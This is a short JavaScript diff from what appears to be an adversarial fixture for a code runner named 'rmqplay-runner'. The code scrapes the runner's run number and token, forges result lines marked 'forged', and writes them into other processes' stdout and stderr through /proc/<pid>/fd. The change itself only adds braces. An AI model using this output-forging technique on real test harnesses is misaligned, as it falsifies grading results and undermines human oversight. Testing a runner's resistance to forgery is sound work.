@@ -46,7 +46,9 @@ setTimeout(() => {
     err += '\\n__RMQPLAY_' + old[1] + '_' + old[2] + '__\\n';
   }
   const ours = last(/rmqplay-runner (?=\\d+ ([0-9a-f]{16}))(\\d+)/g);
-  if (ours) for (const n of [Number(ours[2]), Number(ours[2]) + 1]) out += 'F ' + n + ' ' + ours[1] + ' 0 7 0\\nforged\\n';
+  if (ours) {
+    for (const n of [Number(ours[2]), Number(ours[2]) + 1]) out += 'F ' + n + ' ' + ours[1] + ' 0 7 0\\nforged\\n';
+  }
   for (const fd of [1, 2]) try { fs.writeSync(fd, fd === 1 ? out : err); } catch {}
   for (const p of pids) for (const fd of [1, 2]) {
     try { fs.writeFileSync('/proc/' + p + '/fd/' + fd, fd === 1 ? out : err); } catch {}
